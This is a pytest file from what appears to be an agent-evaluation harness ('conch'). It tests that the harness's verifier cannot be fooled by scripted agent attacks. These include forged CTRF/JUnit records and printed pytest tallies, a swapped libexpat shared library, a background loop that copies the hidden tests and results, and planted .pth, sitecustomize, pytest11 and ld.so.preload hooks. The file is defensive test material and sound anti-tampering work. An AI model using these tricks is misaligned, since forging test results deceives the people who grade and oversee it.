        "cp /tmp/evil/ctrf5.json /logs/verifier/a.json; cp /tmp/evil/junit400.xml /logs/verifier/a.xml"),),
        variants=("prog-sys", "prog-tb2"), honest=1),
    # pytest's tally of a full pass, printed by the program (the test shows it among its captured output), and a
    # matching CTRF record where conch reads first
    "prog-prints-tally-and-writes-a-first-ctrf": Attack((_prog(
        "cat /tmp/evil/console.txt; cp /tmp/evil/ctrf5.json /logs/verifier/a.json"),),
        variants=("prog-sys", "prog-tb2"), honest=1),
    "prog-forges-console-and-ctrf-after-pytest": Attack((_prog(_FORGE_AFTER),), variants=("prog-sys", "prog-tb2"),
                                                        honest=1),
}


def _turns(name: str) -> list[str]:
    a = ATTACKS[name]
    turns = [KIT, *a.turns]
    if a.needs_cc:
        lib = _fake_libexpat()
        if lib is None:
            pytest.skip("no C compiler on the host to build the fake libexpat.so.1")
        turns.append(f"base64 -d > /tmp/evil/libexpat.so.1 <<'EOF'\n{lib}\nEOF\n"
                     "for f in /usr/lib/x86_64-linux-gnu/libexpat.so.1*; do rm -f $f; "
                     "cp /tmp/evil/libexpat.so.1 $f; done; ls -la /usr/lib/x86_64-linux-gnu/libexpat.so.1*")
    if a.proof:
        turns.append(a.proof)
    return turns


def _detail(r) -> str:
    v = r.verify
    if v is None:
        return f"error={r.error!r}"
    return (f"n={r.n_passed}/{r.n_total} reward={r.reward} source={v.source} error={v.error!r} "
            f"tampered={v.tampered!r} tests={[(t.name, t.status) for t in v.tests][:8]}\n"
            f"--- verifier output tail ---\n{(v.log or v.output_tail)[-2500:]}")


def assert_not_forged(r, honest: int = 0) -> None:
    """The honest count (at most `honest` passes), or an error marked tampered: never a forged count."""
    v = r.verify
    detail = _detail(r)
    if v is not None and v.tampered:
        assert v.error and r.n_passed == 0 and r.reward is None, detail
        return
    assert r.n_passed <= honest, detail
    assert r.n_total == 5, detail
    assert r.reward != 1.0, detail
    if v is not None:
        names = {t.name.replace("\\", "/").split("::")[-1] for t in v.tests}
        assert names <= set(TEST_NAMES), detail
        assert not any("999" in t.name or "fake" in t.name for t in v.tests), detail


ATTACK_CASES = [pytest.param(name, variant, id=f"{name}-{variant}")
                for name, a in ATTACKS.items() for variant in a.variants]


@pytest.mark.parametrize("name,variant", ATTACK_CASES)
def test_attack_does_not_forge_the_count(tasks, backend, name, variant):
    turns = _turns(name)
    r = run(run_task(tasks[variant], agent=turns, backend=backend))
    assert len(r.steps) == len(turns) and not any(s.timed_out for s in r.steps), \
        [(s.command[:80], s.exit_code, s.output[-300:]) for s in r.steps]
    assert "kit ready" in r.steps[0].output, r.steps[0].output
    if ATTACKS[name].proof:  # the attack works where nothing protects the count: in the agent's own box
        assert "ARMED" in r.steps[-1].output and "NOT-ARMED" not in r.steps[-1].output, \
            (r.steps[-1].command, r.steps[-1].output)
    assert_not_forged(r, ATTACKS[name].honest)


SEALED_SH = """\
#!/bin/bash
mkdir -p /logs/verifier
setsid sleep 300 </dev/null >/dev/null 2>&1 &
svc=$!
pytest --ctrf /logs/verifier/ctrf.json /tests/test_outputs.py -rA
sleep 1
kill -0 $svc 2>/dev/null && echo SERVICE-ALIVE
[ -e /tmp/late ] && echo LEFTOVER-RAN
echo 1 > /logs/verifier/reward.txt
"""


def test_what_the_tests_started_is_killed_when_they_end(tmp_path, backend):
    """conch's pytest plugin (conch/sandbox/pytest_seal.py): a process a test's program left behind is gone once
    pytest is done (it never writes after the tests), while a service the test script started before pytest
    keeps running."""
    task = load_task(make_task(tmp_path, "sealed", SEALED_SH, PROG_TESTS, ""))
    prog = ("cat > /app/prog.sh <<'CONCH_PROG'\n#!/bin/bash\n"
            "setsid bash -c 'sleep 0.5; touch /tmp/late' </dev/null >/dev/null 2>&1 &\necho hello\nCONCH_PROG\n")
    r = run(run_task(task, agent=[prog], backend=backend))
    log = r.verify.log or r.verify.output_tail
    assert r.verify.error is None and r.n_passed == 1, _detail(r)
    assert "SERVICE-ALIVE" in log and "LEFTOVER-RAN" not in log, log[-2000:]


# ----------------------------------------------------------------------------------------- 5. a huge record

def _big_ctrf_prog(n: int, name: str) -> str:
    """solve.sh of a task whose tests run /app/prog.sh, which writes a CTRF record of `n` passing tests (named
    `name` % i) where conch reads first (/logs/verifier/a.json sorts before ctrf.json). Honest count: 1. The
    record is written as a stream, so the box's own memory stays small (the peak measured is conch's, with its
    descendants)."""
    gen = ("import json\n"
           f"n, name = {n}, {name!r}\n"
           "with open('/logs/verifier/a.json', 'w') as f:\n"
           "    f.write('{\"results\": {\"tool\": {\"name\": \"pytest\"}, \"summary\": {\"tests\": %d, "
           "\"passed\": %d}, \"tests\": [' % (n, n))\n"
           "    for i in range(n):\n"
           "        f.write((',' if i else '') + json.dumps({'name': name % i, 'status': 'passed'}))\n"
           "    f.write(']}}')\n")
    return (f"cat > /app/gen.py <<'CONCH_GEN'\n{gen}CONCH_GEN\n"
            "cat > /app/prog.sh <<'CONCH_PROG'\n#!/bin/bash\npython3 /app/gen.py\necho hello\nCONCH_PROG\n")


def test_huge_ctrf_from_a_test_run_program_is_never_the_count(tmp_path, backend):
    """10^6 tests (about 50 MB, over the read cap) and, small enough to be read, more results than any record may
    hold, both where conch would read first: never a count (the test script names its record, ctrf.json, and
    only that is read; the oversized one is listed among the report problems); conch's own memory (the
    `conch check` process, measured with wait4) stays modest."""
    from test_adversarial import conch_check

    root = tmp_path / "tasks"
    make_task(root, "ctrf-1e6", SYS_SH, PROG_TESTS, _big_ctrf_prog(10 ** 6, "test_outputs.py::test_x%d"))
    make_task(root, "ctrf-over-max", SYS_SH, PROG_TESTS, _big_ctrf_prog(MAX_RESULTS + 20_000, "t%d"))
    results, stderr, peak_kib = conch_check(root, backend, jobs=1)
    print(f"conch check peak RSS: {peak_kib >> 10} MiB")
    for name in ("ctrf-1e6", "ctrf-over-max"):
        r = results[name]
        assert r["n_passed"] <= 1 and r["reward"] != 1.0 and r["n_total"] == 5, (name, r)
        assert r["error"] or r["n_passed"] == 1, (name, r)  # the honest count, from the named record
    assert peak_kib < 600 * 1024, f"conch check peaked at {peak_kib >> 10} MiB"


# ----------------------------------------------------------------------------------------- 6. progress mode

SPY = ("setsid nohup bash -c 'mkdir -p /tmp/stolen; n=0; while :; do n=$((n+1)); echo $n > /tmp/ticks; "
       "cp -r /tests/* /logs/verifier/* /tmp/stolen/ 2>/dev/null; sleep 0.01; done' </dev/null >/dev/null 2>&1 & "
       "echo $! > /tmp/spy.pid")


def test_progress_mode_freezes_the_agent_and_never_shows_it_the_tests(tasks, backend):
    task = tasks["sys"]

    async def go():
        box = make_sandbox(backend, task.sandbox_spec())
        await box.start()
        try:
            assert (await box.exec(SPY)).exit_code == 0
            await asyncio.sleep(0.5)
            before = int((await box.exec("cat /tmp/ticks")).stdout)
            first = await verify(box, task, final=False)
            await asyncio.sleep(0.5)
            after = await box.exec("cat /tmp/ticks; echo ---; ls -A /tmp/stolen; echo ---; "
                                   "ls -A /tests /logs/verifier 2>&1; echo ---; kill -0 $(cat /tmp/spy.pid) && "
                                   "echo alive; pgrep -f /tmp/stolen >/dev/null && echo looping")
            solved = await box.exec(SOLVE.replace("#!/bin/bash\n", ""))
            second = await verify(box, task, final=False)
            again = await box.exec("ls -A /tmp/stolen; ls /tests 2>&1; kill -0 $(cat /tmp/spy.pid) && echo alive")
            return before, first, after, solved, second, again
        finally:
            await box.stop()

    before, first, after, solved, second, again = run(go())
    assert (first.n_passed, first.n_total, first.error) == (0, 5, None), first
    ticks, stolen, listing, alive = after.stdout.split("---\n")
    assert int(ticks) > before, after.stdout  # the agent's loop runs again
    assert stolen.strip() == "", after.stdout  # it never saw the tests or the results
    assert "No such file" in listing and "test_outputs" not in listing, after.stdout
    assert alive.split() == ["alive", "looping"], after.stdout  # frozen and thawed, never killed
    assert solved.exit_code == 0, solved
    assert (second.n_passed, second.n_total, second.error) == (5, 5, None), second
    assert again.stdout.split()[-1] == "alive" and "test_outputs" not in again.stdout, again.stdout


# ----------------------------------------------------------------------------------------- 7. legit work counts

@pytest.mark.parametrize("variant", ["sys", "tb2", "prog-sys", "prog-tb2", "dep-sys"])
def test_oracle_scores_full_marks(tasks, backend, variant):
    r = run(run_task(tasks[variant], "oracle", backend=backend))
    assert (r.n_passed, r.n_total, r.reward, r.error) == (5, 5, 1.0, None), _detail(r)


@pytest.mark.parametrize("variant", ["sys", "tb2"])
def test_doing_nothing_scores_zero(tasks, backend, variant):
    r = run(run_task(tasks[variant], agent=["true"], backend=backend))
    assert (r.n_passed, r.n_total, r.reward, r.error) == (0, 5, 0.0, None), _detail(r)


def test_a_package_the_agent_installs_still_counts(tasks, backend):
    """The agent pip-installs a package from the offline wheelhouse that a test imports (system python)."""
    files = SOLVE.replace("#!/bin/bash\n", "")
    without = run(run_task(tasks["dep-sys"], agent=[files], backend=backend))
    with_pkg = run(run_task(tasks["dep-sys"], agent=[files, "pip install typing_extensions && "
                                                            "python3 -c 'import typing_extensions'"],
                            backend=backend))
    assert with_pkg.steps[-1].exit_code == 0, with_pkg.steps[-1].output
    assert (without.n_passed, without.n_total, without.error) == (4, 5, None), _detail(without)
    assert (with_pkg.n_passed, with_pkg.n_total, with_pkg.reward, with_pkg.error) == (5, 5, 1.0, None), \
        _detail(with_pkg)


# ----------------------------------------------------------------------------------------- without a sandbox:
# verifier_view.plan over dict-backed trees

class DictTree:
    """A `TreeReader` over {path: "dir" | bytes (a file) | ("link", target)}; parents are implied folders."""

    def __init__(self, entries: dict) -> None:
        self.entries = dict(entries)
        for path in list(self.entries):
            parts = path.split("/")
            for i in range(1, len(parts)):
                self.entries.setdefault("/".join(parts[:i]), "dir")

    def _entry(self, rel: str):
        rel = rel.strip("/")
        parts = rel.split("/")
        for i in range(1, len(parts)):  # behind a link: absent (links are never followed)
            if isinstance(self.entries.get("/".join(parts[:i])), tuple):
                return None
        return self.entries.get(rel)

    def kind(self, rel: str):
        e = self._entry(rel)
        if e is None:
            return None
        return "dir" if e == "dir" else "link" if isinstance(e, tuple) else "file"

    def listdir(self, rel: str) -> list[str]:
        rel = rel.strip("/")
        if rel and self.kind(rel) != "dir":
            return []
        prefix = f"{rel}/" if rel else ""
        return sorted({p[len(prefix):].split("/")[0] for p in self.entries if p.startswith(prefix) and p != rel})

    def readlink(self, rel: str):
        e = self._entry(rel)
        return e[1] if isinstance(e, tuple) else None

    def read(self, rel: str, cap: int):
        e = self._entry(rel)
        return e[:cap] if isinstance(e, bytes) else None


PRISTINE = {
    "bin": ("link", "usr/bin"), "lib64": ("link", "usr/lib64"), "sbin": ("link", "usr/sbin"),
    "usr/bin/bash": b"ELF bash", "usr/bin/sh": b"ELF dash", "usr/bin/ls": b"ELF ls", "usr/bin/tar": b"ELF tar",
    "usr/bin/python3.13": b"ELF python", "usr/bin/python3": ("link", "python3.13"), "usr/sbin/ldconfig": b"ELF",
    "usr/lib64/ld-linux-x86-64.so.2": ("link", "../lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"),
    "usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2": b"ELF ld", "usr/lib/x86_64-linux-gnu/libc.so.6": b"ELF libc",
    "usr/lib/x86_64-linux-gnu/libexpat.so.1": b"ELF expat", "usr/lib/x86_64-linux-gnu/libz.so.1": b"ELF z",
    "usr/local/bin/uv": b"shim", "usr/local/bin/uvx": b"shim", "usr/local/bin/pytest": b"#!/usr/bin/python3",
    "usr/local/sbin": "dir", "usr/local/lib/conch/uv/uv": b"ELF uv",
    "opt/conch/wheels/pytest-8.4.1-py3-none-any.whl": b"PK real",
    "root/.local/bin/env": b"export PATH", "root/.local/bin/uvx": ("link", "/usr/local/bin/uvx"),
    "etc/ld.so.cache": b"cache", "etc/python3.13/sitecustomize.py": b"# debian",
    "usr/lib/python3.13/os.py": b"# os", "usr/lib/python3.13/sitecustomize.py":
        ("link", "../../../etc/python3.13/sitecustomize.py"),
    "usr/lib/python3.13/lib-dynload/pyexpat.so": b"ELF",
    "usr/local/lib/python3.13/dist-packages/pytest/__init__.py": b"# pytest",
    "usr/local/lib/python3.13/dist-packages/_pytest/reports.py": b"# reports",
    "usr/local/lib/python3.13/dist-packages/pytest-8.4.1.dist-info/entry_points.txt": b"[console_scripts]\n",
    "usr/local/lib/python3.13/dist-packages/pluggy/__init__.py": b"# pluggy",
    "usr/local/lib/python3.13/dist-packages/pygments/__init__.py": b"# pygments",
    "usr/lib/python3/dist-packages/pip/__init__.py": b"# pip",
}
LOCAL = "usr/local/lib/python3.13/dist-packages"
DEBIAN = "usr/lib/python3/dist-packages"


def seen(changes: list[Change], pristine: DictTree, agent: DictTree, rel: str):
    """What the verifier sees at `rel` once `changes` are mounted in order over the agent's tree (the last mount
    covering `rel` wins): ("pristine", kind), ("masked", kind) or ("agent", kind)."""
    for c in reversed(changes):
        if rel == c.path or rel.startswith(c.path + "/"):
            if c.kind == "pristine":
                return "pristine", pristine.kind(c.source + rel[len(c.path):])
            if c.kind.startswith("mask"):
                return ("masked", "file" if c.kind == "mask-file" else "dir") if rel == c.path else ("masked", None)
            return "agent", agent.kind(rel)
    return "agent", agent.kind(rel)


def _plan(added: dict, removed: tuple[str, ...] = ()):
    entries = {k: v for k, v in PRISTINE.items() if k not in removed}
    entries.update(added)
    pristine, agent = DictTree(PRISTINE), DictTree(entries)
    return plan(pristine, agent), pristine, agent


def test_plan_masks_an_added_uvx_earlier_on_path_and_shadowing_commands():
    changes, p, a = _plan({"usr/local/sbin/uvx": b"#!/bin/sh\necho 5 passed", "usr/local/sbin/ls": b"fake ls",
                           "root/.local/bin/pytest": b"fake", "usr/local/bin/mytool": b"#!/bin/sh\necho mine",
                           "usr/local/sbin/python3.12": b"fake"})
    for path in ("usr/local/sbin/uvx", "usr/local/sbin/ls", "root/.local/bin/pytest", "usr/local/sbin/python3.12"):
        assert seen(changes, p, a, path) == ("masked", "file"), (path, changes)
    assert seen(changes, p, a, "usr/local/bin/mytool") == ("agent", "file")  # the agent's own tool still runs


def test_plan_restores_replaced_toolchain_files():
    changes, p, a = _plan({"usr/local/bin/uvx": b"forged", "usr/local/bin/pytest": b"forged",
                           "usr/bin/tar": b"forged", "usr/bin/python3.13": b"#!/bin/sh\nforged",
                           "opt/conch/wheels/pytest-8.4.1-py3-none-any.whl": b"PK forged",
                           "root/.local/bin/env": b"uvx() { forged; }", "usr/local/lib/conch/uv/uv": b"forged",
                           f"{LOCAL}/pytest/__init__.py": b"forged", f"{LOCAL}/_pytest/reports.py": b"forged"})
    for path in ("usr/local/bin/uvx", "usr/local/bin/pytest", "usr/bin/tar", "usr/bin/python3.13",
                 "opt/conch/wheels/pytest-8.4.1-py3-none-any.whl", "root/.local/bin/env", "usr/local/lib/conch/uv/uv",
                 f"{LOCAL}/pytest/__init__.py", f"{LOCAL}/_pytest/reports.py"):
        assert seen(changes, p, a, path) == ("pristine", "file"), (path, changes)


def test_plan_masks_added_site_hooks_and_restores_the_pristine_sitecustomize():
    changes, p, a = _plan({f"{LOCAL}/evil.pth": b"import os", f"{LOCAL}/sitecustomize.py": b"forged",
                           f"{DEBIAN}/evil.pth": b"import os", f"{DEBIAN}/usercustomize.py": b"forged",
                           "usr/lib/python3.13/sitecustomize.py": b"forged", "etc/python3.13/sitecustomize.py": b"x",
                           "root/.local/lib/python3.13/site-packages/evil.pth": b"import os"})
    for path in (f"{LOCAL}/evil.pth", f"{LOCAL}/sitecustomize.py", f"{DEBIAN}/evil.pth", f"{DEBIAN}/usercustomize.py"):
        assert seen(changes, p, a, path) == ("masked", "file"), (path, changes)
    # the image's own sitecustomize (a link into /etc/python3.13): the image's, link and target alike
    assert seen(changes, p, a, "usr/lib/python3.13/sitecustomize.py")[0] == "pristine", changes
    assert seen(changes, p, a, "etc/python3.13/sitecustomize.py") == ("pristine", "file"), changes


def test_plan_masks_an_added_pytest11_entry_point_but_keeps_the_package():
    changes, p, a = _plan({f"{LOCAL}/evil-1.0.dist-info/entry_points.txt": b"[pytest11]\nevil = evil\n",
                           f"{LOCAL}/evil-1.0.dist-info/METADATA": b"Name: evil", f"{LOCAL}/evil.py": b"hooks",
                           f"{LOCAL}/mypkg/__init__.py": b"X = 42",
                           f"{LOCAL}/mypkg-1.0.dist-info/entry_points.txt": b"[console_scripts]\nmy = mypkg:main\n"})
    assert seen(changes, p, a, f"{LOCAL}/evil-1.0.dist-info/entry_points.txt") == ("masked", "file"), changes
    assert seen(changes, p, a, f"{LOCAL}/evil.py") == ("agent", "file")  # importable by the tests, never a plugin
    assert seen(changes, p, a, f"{LOCAL}/mypkg/__init__.py") == ("agent", "file")
    assert seen(changes, p, a, f"{LOCAL}/mypkg-1.0.dist-info/entry_points.txt") == ("agent", "file")


def test_plan_masks_loader_configuration_and_restores_glibc_and_merged_usr():
    changes, p, a = _plan({"etc/ld.so.preload": b"/tmp/evil.so", "bin": "dir", "bin/sh": b"forged",
                           "usr/lib/x86_64-linux-gnu/libc.so.6": b"forged"})
    assert seen(changes, p, a, "etc/ld.so.preload") == ("masked", "file"), changes
    assert seen(changes, p, a, "usr/lib/x86_64-linux-gnu/libc.so.6") == ("pristine", "file"), changes
    assert seen(changes, p, a, "bin") == ("pristine", "dir") and seen(changes, p, a, "bin/sh")[0] == "pristine"


def test_plan_of_an_untouched_filesystem_masks_nothing():
    changes, p, a = _plan({"usr/local/lib/python3.13/dist-packages/requests/__init__.py": b"the agent's"})
    assert changes and not [c for c in changes if c.kind.startswith("mask")], changes
    assert seen(changes, p, a, f"{LOCAL}/pygments/__init__.py") == ("pristine", "file")  # pytest's own import
    assert seen(changes, p, a, f"{LOCAL}/requests/__init__.py") == ("agent", "file")  # a site folder stays the agent's


@pytest.mark.parametrize("path,entry", [
    ("usr/lib/python313.zip", b"PK zip with sitecustomize.py"),  # first on sys.path, before the stdlib
    ("usr/bin/pyvenv.cfg", b"home = /tmp/evil/bin\n"),  # the interpreter's stdlib from the agent's folder
    ("usr/pyvenv.cfg", b"home = /tmp/evil/bin\n"),
    ("usr/bin/python3.13._pth", b"/tmp/evil\n"),
])
def test_plan_masks_python_startup_files_outside_the_site_folders(path, entry):
    changes, p, a = _plan({path: entry})
    assert seen(changes, p, a, path)[0] == "masked", (path, changes)


@pytest.mark.parametrize("path,entry,ok", [
    # importlib.metadata reads entry points from egg-info folders as well as dist-info ones
    (f"{LOCAL}/evil.egg-info/entry_points.txt", b"[pytest11]\nevil = evil\n", ("masked",)),
    # a pytest11 entry added to a dist-info folder the image already has
    (f"{LOCAL}/pygments-2.21.0.dist-info/entry_points.txt", b"[pytest11]\nevil = evil\n", ("masked", "pristine")),
    # pygments: pytest's terminal writer imports it whenever pytest starts
    (f"{LOCAL}/pygments/__init__.py", b"forged", ("pristine",)),
    # the compiled py.py (pytest's _pytest.compat imports `py`), checked against py.py's mtime and size only
    (f"{LOCAL}/__pycache__/py.cpython-313.pyc", b"forged pyc", ("pristine", "masked")),
])
def test_plan_keeps_what_pytest_loads_at_start_the_images(path, entry, ok):
    added = {path: entry, f"{LOCAL}/py.py": b"# py shim"}
    pristine_extra = {f"{LOCAL}/pygments-2.21.0.dist-info/entry_points.txt": b"[console_scripts]\n",
                      f"{LOCAL}/py.py": b"# py shim"}
    entries = {**PRISTINE, **pristine_extra}
    p, a = DictTree(entries), DictTree({**entries, **added})
    changes = plan(p, a)
    assert seen(changes, p, a, path)[0] in ok, (path, changes)


def test_plan_restores_shared_libraries_the_interpreter_loads():
    """python3.13 loads libexpat.so.1 and libz.so.1 (not glibc's): a replaced one runs its code first."""
    changes, p, a = _plan({"usr/lib/x86_64-linux-gnu/libexpat.so.1": b"ELF forged",
                           "usr/lib/x86_64-linux-gnu/libz.so.1": b"ELF forged"})
    for path in ("usr/lib/x86_64-linux-gnu/libexpat.so.1", "usr/lib/x86_64-linux-gnu/libz.so.1"):
        assert seen(changes, p, a, path) == ("pristine", "file"), (path, changes)


# ----------------------------------------------------------------------------------------- reconcile

STATIC5 = StaticTests(tuple(f"test_outputs.py::{t}" for t in TEST_NAMES), exact=True)


def _console(passed: int, failed: int, skipped: int = 0, collected: int = 5) -> str:
    counts = ((failed, "failed"), (passed, "passed"), (skipped, "skipped"))
    tally = ", ".join(f"{n} {word}" for n, word in counts if n)
    return f"collected {collected} items\n\n=========== {tally} in 0.10s ===========\n"


def _outcomes(statuses: dict[str, str]) -> list[TestOutcome]:
    return [TestOutcome(f"test_outputs.py::{n}", s) for n, s in statuses.items()]


def test_reconcile_accepts_an_honest_record():
    tests = _outcomes({"test_a": "passed", "test_b": "passed", "test_c": "failed", "test_d": "failed",
                       "test_e": "skipped"})
    assert reconcile(tests, 2, 5, "ctrf", STATIC5, _console(2, 2, 1)) is None


def test_reconcile_flags_duplicates_unknown_names_and_too_many_results():
    twice = _outcomes({"test_a": "passed"}) * 2
    assert "more than once" in reconcile(twice, 2, 2, "ctrf", STATIC5, "")
    fake = _outcomes({"test_a": "failed", "test_fake": "passed"})
    assert "does not define" in reconcile(fake, 1, 2, "ctrf", STATIC5, "")
    many = [TestOutcome(f"test_outputs.py::test_a[{i}]", "passed") for i in range(6)]
    assert "for the task's 5 tests" in reconcile(many, 6, 6, "pytest-summary", STATIC5, "")
    # over the absolute cap, whatever the task (even one whose collection `ast` cannot count)
    loose = StaticTests(STATIC5.ids, exact=False)
    huge = [TestOutcome(f"t{i}", "passed") for i in range(MAX_RESULTS + 1)]
    assert "over the" in reconcile(huge, len(huge), len(huge), "ctrf", loose, "")
    assert reconcile(huge[:1000], 1000, 1000, "ctrf", loose, "") is None  # not exact: no per-task cap


def test_reconcile_flags_a_record_claiming_more_passes_than_the_console():
    tests = _outcomes({t: "passed" for t in TEST_NAMES})
    assert "pytest's own tally 0" in reconcile(tests, 5, 5, "ctrf", STATIC5, _console(0, 5))
    assert "pytest's own tally 0" in reconcile(tests, 5, 5, "junit", STATIC5, _console(0, 5))
    # a tally past the items its run collected
    assert "exceeds the 5 items" in reconcile(tests, 5, 5, "pytest-counts", STATIC5, _console(999, 0))


def _host_pytest(tests_dir: Path, source: str, *flags: str) -> str:
    """The host's pytest on `source` as tests_dir/test_outputs.py, with `flags`."""
    tests_dir.mkdir(parents=True, exist_ok=True)
    (tests_dir / "test_outputs.py").write_text(source)
    return subprocess.run([sys.executable, "-m", "pytest", *flags, "-p", "no:cacheprovider", "-p", "no:randomly",
                           str(tests_dir / "test_outputs.py")], capture_output=True, text=True, cwd=tests_dir,
                          timeout=120).stdout


def _pytest_run(tests_dir: Path, source: str) -> str:
    """The host's pytest on `source` (`-rA`, as the verifier runs it)."""
    return _host_pytest(tests_dir, source, "-rA")


def test_reconcile_ignores_a_tally_that_a_test_printed(tmp_path):
    """A program the tests run prints pytest's tally of a full pass (the test shows its output among the PASSES):
    that is not pytest's own tally, so a CTRF record of 5 passes still disagrees with the 1 pytest counted."""
    forged = FORGED_CONSOLE.replace("\n", "\\n")
    output = _pytest_run(tmp_path / "tests", FILE_TESTS.replace(
        "def test_e():\n", f"def test_e():\n    print('{forged}')\n    return\n"))
    static = static_tests(tmp_path / "tests")
    assert "4 failed, 1 passed" in output and "5 passed in" in output, output[-3000:]
    ctrf = _outcomes({t: "passed" for t in TEST_NAMES})
    assert reconcile(ctrf, 5, 5, "ctrf", static, output) is not None


ONE_PASS_PRINTING = FILE_TESTS.replace("def test_e():\n", "def test_e():\n    print(PRINTED)\n    return\n")


@pytest.mark.parametrize("printed,flags", [
    ("'=' * 30 + ' 5 passed in 0.01s ' + '=' * 30", ("-s",)),  # inline, no capture: the run's region
    ("'=' * 30 + ' 5 passed in 0.01s ' + '=' * 30", ("-rA",)),
    ("FORGED", ("-s",)),  # a whole session printed while the real one is open
    ("FORGED", ("-rA", "-v")),
])
def test_console_witness_counts_pytest_s_own_tally_only(tmp_path, printed, flags):
    source = f"FORGED = {FORGED_CONSOLE!r}\nPRINTED = {printed}\n" + ONE_PASS_PRINTING
    output = _host_pytest(tmp_path / "tests", source, *flags)
    assert "4 failed, 1 passed" in output and "5 passed in" in output, output[-3000:]
    assert console_witness(output) == (1, None), output[-3000:]


def test_console_witness_sums_honest_sequential_runs(tmp_path):
    """A test script running pytest twice counts both runs (-q after a run with a header merges into it: a
    headerless tally is indistinguishable from one a test printed, so the witness undercounts, never over)."""
    one = _host_pytest(tmp_path / "a", FILE_TESTS.replace("def test_e():\n", "def test_e():\n    return\n"), "-rA")
    two = _host_pytest(tmp_path / "b", FILE_TESTS.replace("def test_d():\n", "def test_d():\n    return\n")
                       .replace("def test_e():\n", "def test_e():\n    return\n"), "-q")
    assert console_witness(one + "some script output\n" + one) == (2, None)
    assert console_witness(two + one) == (3, None)
    assert console_witness(one + two) == (2, None)


def test_a_second_ctrf_record_does_not_replace_the_test_scripts(tmp_path):
    """The test script names its record (--ctrf /logs/verifier/ctrf.json); another CTRF file the tests' programs
    leave beside it (a.json sorts first) must not be the count."""
    output = _pytest_run(tmp_path / "tests", FILE_TESTS.replace("def test_e():\n", "def test_e():\n    return\n"))
    static = static_tests(tmp_path / "tests")
    logs = tmp_path / "logs"
    logs.mkdir()
    honest = {t: "failed" for t in TEST_NAMES[:4]} | {"test_e": "passed"}
    (logs / "ctrf.json").write_text(json.dumps({"results": {"tests": [
        {"name": f"test_outputs.py::{n}", "status": s} for n, s in honest.items()]}}))
    (logs / "a.json").write_text(KIT_FILES["ctrf5.json"])
    tests, n_passed, n_total, source = outcomes_from(logs, output, list(static.ids))
    forged = n_passed == 5 and reconcile(tests, n_passed, n_total, source, static, output) is None
    assert not forged, (source, tests)


def test_reconcile_accepts_an_honest_parametrized_task(tmp_path):
    """A real pytest run (the host's) of a parametrized task: the console's per-case lines are not flagged."""
    tests_dir = tmp_path / "tests"
    tests_dir.mkdir()
    (tests_dir / "test_outputs.py").write_text(textwrap.dedent("""\
        import pytest

        CASES = [1, 2, 3]


        @pytest.mark.parametrize("n", CASES)
        def test_p(n):
            assert n != 2


        @pytest.mark.parametrize("a,b", [("x", 1), ("y", 2)], ids=["first", "second"])
        def test_q(a, b):
            assert b


        def test_plain():
            pass
        """))
    static = static_tests(tests_dir)
    assert static.exact and len(static.ids) == 6, static
    proc = subprocess.run([sys.executable, "-m", "pytest", "-rA", "-p", "no:cacheprovider", "-p", "no:randomly",
                           str(tests_dir / "test_outputs.py")], capture_output=True, text=True, cwd=tests_dir,
                          timeout=120)
    logs = tmp_path / "logs"
    logs.mkdir()
    tests, n_passed, n_total, source = outcomes_from(logs, proc.stdout, list(static.ids))
    assert (n_passed, n_total) == (5, 6), (source, tests, proc.stdout[-2000:])
    assert reconcile(tests, n_passed, n_total, source, static, proc.stdout) is None
    # CTRF 0.3.5 merges a function's cases into one entry, without the brackets: still the task's tests
    merged = [TestOutcome("test_outputs.py::test_p", "failed"), TestOutcome("test_outputs.py::test_q", "passed"),
              TestOutcome("test_outputs.py::test_plain", "passed")]
    assert reconcile(merged, 2, 3, "ctrf", static, proc.stdout) is None
    assert parse_pytest_console(proc.stdout).counts["passed"] == 5
